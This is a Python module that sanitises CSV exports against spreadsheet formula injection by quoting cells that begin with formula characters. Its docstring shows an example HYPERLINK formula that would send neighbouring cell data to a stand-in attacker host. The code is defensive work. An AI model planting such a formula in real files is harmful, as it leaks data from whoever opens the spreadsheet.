"""CSV files that a spreadsheet opens as data, never as formulas. Every CSV the project writes
(entries, jury exports, results) goes through this module.

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or `@` as a
formula, and some skip a leading tab or carriage return first: an entry titled
`=HYPERLINK("http://evil.example/?"&A1,"Click")` would become a live link in an organizer's
spreadsheet that sends the neighbouring cells away. Such text gets a leading apostrophe, which
spreadsheets read as "this is text" and do not show (OWASP's advice for CSV injection).
Numbers, dates and empty cells are written as they are.
"""

import csv
from collections.abc import Iterable, Iterator

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# So that spreadsheet programs read Vietnamese as UTF-8 (Excel assumes a local code page).
BOM = "\ufeff"


def safe_cell(value):
    """The value as a spreadsheet should show it: text that could start a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Line:
    """A file-like object that hands back what is written: one CSV line per `writerow`."""

    def write(self, value: str) -> str:
        return value


class Writer:
    """`csv.writer` with every cell made safe. Without a file, `writerow` returns the line."""

    def __init__(self, file=None, **options):
        self._writer = csv.writer(file if file is not None else _Line(), **options)

    def writerow(self, row: Iterable):
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file=None, **options) -> Writer:
    return Writer(file, **options)


def lines(header: Iterable[str], rows: Iterable[Iterable]) -> Iterator[str]:
    """A whole CSV file, line by line, for a streaming response: memory stays flat."""
    out = writer()
    yield BOM
    yield out.writerow(header)
    for row in rows:
        yield out.writerow(row)
